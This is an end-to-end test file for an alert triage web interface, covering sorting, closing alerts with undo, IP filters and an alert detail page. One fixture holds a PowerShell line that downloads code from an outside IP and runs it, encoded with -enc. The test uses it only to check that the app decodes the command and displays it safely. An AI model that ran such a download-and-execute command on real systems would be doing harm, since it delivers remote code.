import { expect, test } from "vitest";
import { db } from "@/lib/db/client";
import { newPage, screenshot, signIn, useAppAndBrowser } from "@/tests/helpers/browser";
import { insertAlerts } from "@/tests/helpers/fixtures/alerts";

/** Issue "Triage at 3 a.m.": the alerts list and the alert page as an analyst uses them. */
const e2e = useAppAndBrowser();

const poll = <T>(fn: () => Promise<T> | T) => expect.poll(fn, { timeout: 15_000 });
const ago = (min: number) => new Date(Date.now() - min * 60_000);
const statusOf = async (id: string) => (await db().alert.findUnique({ where: { id } }))!.status;
const rowIds = (page: import("playwright-core").Page) => page.locator('table[aria-label="Alerts"] tbody tr').evaluateAll((trs) => trs.map((tr) => tr.getAttribute("data-row-id")));

async function analystPage() {
  const u = await e2e.app.user("analyst");
  const { page, problems } = await newPage(e2e.browser, e2e.app.url);
  await signIn(page, u.email, u.password);
  return { page, problems };
}

test("column headers sort (ascending, descending, aria-sort, in the URL); the default is the latest event first", async () => {
  const rows = await insertAlerts([
    { hostId: "sort-h", hostName: "SORT-B", riskScore: 21, firstEventAt: ago(30), createdAt: ago(1) },
    { hostId: "sort-h", hostName: "SORT-A", riskScore: 99, firstEventAt: ago(10), createdAt: ago(3) },
    { hostId: "sort-h", hostName: "SORT-C", riskScore: 47, firstEventAt: ago(20), createdAt: ago(2) },
  ]);
  const { page, problems } = await analystPage();
  await page.goto("/alerts?hostId=sort-h");
  await page.getByRole("table", { name: "Alerts" }).waitFor();
  expect(await rowIds(page)).toEqual([rows[1].id, rows[2].id, rows[0].id]); // latest event first
  const header = (name: string) => page.getByRole("columnheader", { name });
  expect(await header("Last event").getAttribute("aria-sort")).toBe("descending");
  expect(await header("Risk").getAttribute("aria-sort")).toBe("none");

  await header("Risk").getByRole("button").click();
  await page.waitForURL(/sort=riskScore/);
  await poll(() => rowIds(page)).toEqual([rows[1].id, rows[2].id, rows[0].id]);
  expect(await header("Risk").getAttribute("aria-sort")).toBe("descending");
  await header("Risk").getByRole("button").click();
  await page.waitForURL(/sort=riskScore&order=asc|order=asc&sort=riskScore|sort=riskScore.*order=asc/);
  await poll(() => rowIds(page)).toEqual([rows[0].id, rows[2].id, rows[1].id]);
  expect(await header("Risk").getAttribute("aria-sort")).toBe("ascending");
  expect(await header("Last event").getAttribute("aria-sort")).toBe("none");

  await header("Host").getByRole("button").click();
  await poll(() => rowIds(page)).toEqual([rows[2].id, rows[0].id, rows[1].id]); // SORT-C, B, A
  await page.reload();
  await poll(() => rowIds(page)).toEqual([rows[2].id, rows[0].id, rows[1].id]); // kept in the URL
  expect(await header("Host").getAttribute("aria-sort")).toBe("descending");
  expect(problems).toEqual([]);
});

test("j, c, Enter closes nothing: the reason is explicit; the close offers Undo, which reopens and is recorded", async () => {
  const [row] = await insertAlerts([{ hostId: "undo-h", hostName: "UNDO-1", firstEventAt: ago(5) }]);
  const { page, problems } = await analystPage();
  await page.goto("/alerts?hostId=undo-h");
  await page.getByRole("table", { name: "Alerts" }).waitFor();
  await page.keyboard.press("j");
  await page.keyboard.press("c");
  const dialog = page.getByRole("dialog", { name: "Close alert" });
  await dialog.waitFor();
  expect(await dialog.getByRole("radio", { checked: true }).count()).toBe(0); // nothing preselected
  await page.keyboard.press("Enter");
  await dialog.getByRole("alert").getByText("Pick a closing reason first.").waitFor();
  expect(await statusOf(row.id!)).toBe("open");

  await page.keyboard.press("3"); // Benign
  expect(await dialog.getByRole("radio", { name: /Benign/ }).isChecked()).toBe(true);
  await page.keyboard.press("Enter");
  await poll(() => statusOf(row.id!)).toBe("closed");
  const toast = page.getByTestId("undo-toast");
  await toast.getByText("Closed: 1 alert").waitFor();
  await toast.getByRole("button", { name: "Undo" }).click();
  await poll(() => statusOf(row.id!)).toBe("open");
  await page.getByRole("status").getByText(/Undone: 1 alert back to open/).waitFor();
  const activity = await db().alertActivity.findMany({ where: { alertId: row.id!, kind: "status" }, orderBy: { id: "asc" } });
  expect(activity.map((a) => a.details)).toEqual([
    { from: "open", to: "closed", closingReason: "benign" },
    { from: "closed", to: "open", closingReason: null },
  ]);
  expect(problems).toEqual([]);
});

test("a bulk close offers Undo for 10 s, restoring each alert's own status", async () => {
  const rows = await insertAlerts([
    { hostId: "bulk-undo", hostName: "BU-1", firstEventAt: ago(5) },
    { hostId: "bulk-undo", hostName: "BU-2", firstEventAt: ago(6), status: "acknowledged" },
    { hostId: "bulk-undo", hostName: "BU-3", firstEventAt: ago(7) },
  ]);
  const { page } = await analystPage();
  await page.clock.install();
  await page.goto("/alerts?hostId=bulk-undo&status=all");
  await page.getByRole("table", { name: "Alerts" }).waitFor();
  await page.getByLabel("Select all on this page").check();
  await page.getByRole("button", { name: "Close 3…" }).click();
  await page.getByRole("dialog").getByLabel("Duplicate").check();
  await page.getByRole("button", { name: "Close 3 alerts" }).click();
  await poll(() => db().alert.count({ where: { hostId: "bulk-undo", status: "closed" } })).toBe(3);
  await page.getByTestId("undo-toast").getByRole("button", { name: "Undo" }).click();
  await poll(async () => Promise.all(rows.map((r) => statusOf(r.id!)))).toEqual(["open", "acknowledged", "open"]);

  // Close again; after 10 s the offer is gone and the close stands.
  await page.getByLabel("Select all on this page").check();
  await page.getByRole("button", { name: "Close 3…" }).click();
  await page.getByRole("dialog").getByLabel("True positive").check();
  await page.getByRole("button", { name: "Close 3 alerts" }).click();
  await page.getByTestId("undo-toast").waitFor();
  await page.clock.fastForward(10_500);
  await poll(() => page.getByTestId("undo-toast").count()).toBe(0);
  expect(await db().alert.count({ where: { hostId: "bulk-undo", status: "closed", closingReason: "true_positive" } })).toBe(3);
});

test("the source-IP filter takes a CIDR or a prefix, refuses anything else without stale rows; search covers user names", async () => {
  const rows = await insertAlerts([
    { hostId: "cidr-h", hostName: "CIDR-1", sourceIp: "10.13.37.5", userName: "zed_admin", firstEventAt: ago(5) },
    { hostId: "cidr-h", hostName: "CIDR-2", sourceIp: "10.13.37.200", firstEventAt: ago(6) },
    { hostId: "cidr-h", hostName: "CIDR-3", sourceIp: "10.13.38.1", firstEventAt: ago(7) },
  ]);
  const { page, problems } = await analystPage();
  await page.goto("/alerts?hostId=cidr-h");
  await poll(() => rowIds(page)).toHaveLength(3);
  const ip = page.getByLabel("Source IP", { exact: true });
  await ip.fill("10.13.37");
  await ip.press("Enter");
  await poll(() => rowIds(page)).toEqual([rows[0].id, rows[1].id]);
  await page.waitForURL(/sourceIp=10\.13\.37(&|$)/);
  await ip.fill("10.13.36.0/23");
  await ip.press("Enter");
  await page.waitForURL(/sourceIp=10\.13\.36\.0%2F23/);
  await poll(() => rowIds(page)).toEqual([rows[0].id, rows[1].id]);
  await ip.fill("10.13.37.x");
  expect(await ip.getAttribute("aria-invalid")).toBe("true");
  await ip.press("Enter");
  const refused = page.getByRole("alert").filter({ hasText: "This filter was refused" });
  await refused.waitFor();
  expect(await refused.textContent()).toContain("a CIDR block (10.13.37.0/24) or a prefix (10.13.37)");
  expect(await page.getByRole("table", { name: "Alerts" }).count()).toBe(0); // the earlier rows are gone
  await screenshot(page, "alerts-bad-source-ip");
  await refused.getByRole("button", { name: "Remove this filter" }).click();
  await poll(() => rowIds(page)).toHaveLength(3);

  await page.getByLabel("Search").fill("zed_adm");
  await page.getByLabel("Search").press("Enter");
  await poll(() => rowIds(page)).toEqual([rows[0].id]);
  expect(problems).toEqual([]);
});

test("a cursor that does not work offers the first page", async () => {
  await insertAlerts([{ hostId: "cursor-h", hostName: "CUR-1", firstEventAt: ago(5) }]);
  const { page } = await analystPage();
  await page.goto("/alerts?hostId=cursor-h&cursor=not-a-cursor");
  const error = page.getByRole("alert").filter({ hasText: "This page link no longer works" });
  await error.waitFor();
  await error.getByRole("button", { name: "First page" }).click();
  await poll(() => rowIds(page)).toHaveLength(1);
  expect(new URL(page.url()).searchParams.get("cursor")).toBeNull();
});

const SCRIPT = "Invoke-WebRequest http://185.220.101.34/<b>x</b> | iex";
const ENCODED = Buffer.from(SCRIPT, "utf16le").toString("base64");

test("the alert page: command line (decoded -enc) and connection in the header, every event column at 1280 px, copy, filter for / out", async () => {
  const [row, other] = await insertAlerts([
    { hostId: "ev-h", hostName: "EV-SRV", processName: "powershell.exe", userName: "mallory", commandLine: `powershell.exe -NoP -enc ${ENCODED}`, sourceIp: "10.13.99.5", firstEventAt: ago(5) },
    { hostId: "ev-h2", hostName: "EV-SRV2", userName: "bob", firstEventAt: ago(6) },
  ]);
  const u = await e2e.app.user("analyst");
  const { page, problems } = await newPage(e2e.browser, e2e.app.url);
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: e2e.app.url });
  await signIn(page, u.email, u.password);
  await page.goto(`/alerts/${row.id}`);
  const header = page.getByTestId("alert-header");
  await expect(header.getByTestId("command-line").first().textContent()).resolves.toBe(`powershell.exe -NoP -enc ${ENCODED}`);
  const decoded = header.getByTestId("decoded-command");
  await expect(decoded.textContent()).resolves.toContain(SCRIPT); // literally, markup as text
  expect(await page.locator("b", { hasText: "x" }).count()).toBe(0);
  await expect(page.getByTestId("header-connection").textContent()).resolves.toContain("10.13.99.5:50123 → 10.0.0.20:5985");

  // Every column of the events table is within the page at 1280 px: nothing hidden sideways.
  const events = page.getByRole("table", { name: "Sequence events" });
  const fit = await events.evaluate((t) => ({ table: t.scrollWidth, box: t.parentElement!.clientWidth, page: document.documentElement.scrollWidth }));
  expect(fit.table).toBeLessThanOrEqual(fit.box);
  expect(fit.page).toBeLessThanOrEqual(1280);
  for (const col of ["Time", "Process", "Parent", "User", "Connection", "Event id"]) {
    const box = (await events.getByRole("columnheader", { name: col }).boundingBox())!;
    expect(box.x + box.width, col).toBeLessThanOrEqual(1280);
  }
  await expect(events.textContent()).resolves.toContain(SCRIPT); // decoded beside the event's command line too
  await screenshot(page, "alert-evidence");

  await header.getByRole("button", { name: "Copy command line" }).first().click();
  await poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(`powershell.exe -NoP -enc ${ENCODED}`);
  await header.getByRole("button", { name: "Copy decoded command" }).click();
  await poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(SCRIPT);

  await header.getByRole("link", { name: "Filter out user mallory" }).click();
  await page.waitForURL(/\/alerts\?notUser=mallory/);
  await page.getByText("User is not mallory").waitFor();
  await poll(() => rowIds(page)).toContain(other.id);
  expect(await rowIds(page)).not.toContain(row.id);
  await page.goto(`/alerts/${row.id}`);
  await page.getByRole("link", { name: "Filter for source IP 10.13.99.5" }).click();
  await page.waitForURL(/\/alerts\?sourceIp=10\.13\.99\.5/);
  await poll(() => rowIds(page)).toEqual([row.id]);
  expect(problems).toEqual([]);
});

test("Close as… is a WAI-ARIA menu; dialogs give focus back", async () => {
  const [row] = await insertAlerts([{ hostId: "menu-h", hostName: "MENU-1", firstEventAt: ago(5) }]);
  const { page, problems } = await analystPage();
  await page.goto(`/alerts/${row.id}`);
  const button = page.getByRole("button", { name: "Close as…" });
  await button.focus();
  await page.keyboard.press("ArrowDown");
  const menu = page.getByRole("menu", { name: "Close as" });
  await menu.waitFor();
  const focused = () => page.evaluate(() => document.activeElement?.textContent ?? "");
  expect(await focused()).toBe("False positive");
  await page.keyboard.press("ArrowDown");
  expect(await focused()).toBe("True positive");
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("ArrowUp"); // wraps
  expect(await focused()).toBe("Duplicate");
  await page.keyboard.press("Home");
  expect(await focused()).toBe("False positive");
  await page.keyboard.press("Escape");
  expect(await menu.count()).toBe(0);
  expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Close as…");
  expect(await statusOf(row.id!)).toBe("open");

  await page.keyboard.press("Enter");
  await menu.waitFor();
  await page.keyboard.press("b"); // type-ahead: Benign
  expect(await focused()).toBe("Benign");
  await page.keyboard.press("Enter");
  await poll(() => statusOf(row.id!)).toBe("closed");
  await page.getByTestId("undo-toast").getByRole("button", { name: "Undo" }).click();
  await poll(() => statusOf(row.id!)).toBe("open");
  await page.getByRole("button", { name: "Close as…" }).waitFor();

  const assign = page.getByRole("button", { name: "Assign…" });
  await assign.click();
  await page.getByRole("dialog").waitFor();
  await page.keyboard.press("Escape");
  await poll(() => page.evaluate(() => document.activeElement?.textContent)).toBe("Assign…");
  expect(problems).toEqual([]);
});
